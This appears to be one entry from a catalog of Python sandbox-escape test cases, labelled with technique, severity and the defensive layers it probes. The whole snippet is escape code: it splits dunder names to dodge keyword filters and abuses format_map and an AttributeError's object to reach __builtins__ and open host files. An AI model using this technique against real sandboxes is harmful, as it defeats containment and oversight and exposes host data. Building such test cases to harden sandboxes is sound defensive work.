# technique: format_map with a computed field, and the object in its error
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    try:
        ("{x.__glo" + "bals__.nothing}").format_map({"x": won})
    except AttributeError as e:
        return open_of(e.obj["__built" + "ins__"])

read_host(trick)
